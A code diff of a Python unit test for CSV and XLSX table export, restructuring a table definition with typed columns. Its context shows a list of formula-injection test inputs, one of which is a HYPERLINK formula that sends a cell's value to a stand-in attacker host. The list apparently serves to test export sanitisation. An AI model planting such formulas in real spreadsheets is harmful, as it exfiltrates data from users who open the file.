@@ -2,6 +2,7 @@
 
 import time
 import zipfile
+from operator import itemgetter
 from pathlib import Path
 
 import openpyxl
@@ -11,7 +12,15 @@ from services.orders.adapters.table_files import CsvTable, XlsxTable
 from services.orders.domain.tables import Column, Row, Table
 from tests.unit.orders.export_reader import read_csv, read_xlsx
 
-TABLE = Table("things", "东西", (Column("name", "名称"), Column("amount", "金额", money=True), Column("count", "数量")))
+TABLE = Table[Row](
+    "things",
+    "东西",
+    (
+        Column("name", "名称", itemgetter(0)),
+        Column("amount", "金额", itemgetter(1), money=True),
+        Column("count", "数量", itemgetter(2)),
+    ),
+)
 INJECTIONS = [
     '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
     "=1+1",
